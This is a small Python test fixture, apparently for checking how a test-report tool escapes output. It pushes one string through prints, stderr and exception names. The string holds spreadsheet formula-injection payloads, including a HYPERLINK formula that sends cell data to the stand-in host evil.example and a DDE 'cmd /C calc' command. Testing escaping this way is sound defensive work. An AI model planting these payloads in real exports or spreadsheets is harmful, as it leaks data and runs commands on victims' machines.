"""One text, in every place that a report shows."""

TEXT = (
    "=HYPERLINK(\"http://evil.example/\"&A1,\"passed\")\n"
    "+1+cmd|\' /C calc\'!A0\n-2+3\n@SUM(1)\n\t=1\n\r=1\n\uff1d1,\"=1\";=1"
)


def raised(text):
    """A class of its own for each text, named like it."""
    return type(text, (Exception,), {"__module__": text, "__qualname__": text})(text)


def double(number):
    print(TEXT)
    return TEXT


def password():
    raise raised(TEXT)


def code():
    return [TEXT, {TEXT: TEXT}, TEXT.encode("utf-8", "surrogatepass")]


def words():
    exec(compile("raise ValueError(TEXT)", TEXT, "exec"))


def table():
    raise KeyError(TEXT)


def each(function, items):
    import sys

    sys.stderr.write(TEXT)
    return raised(TEXT)


def open_door(name):
    raise LookupError(TEXT)
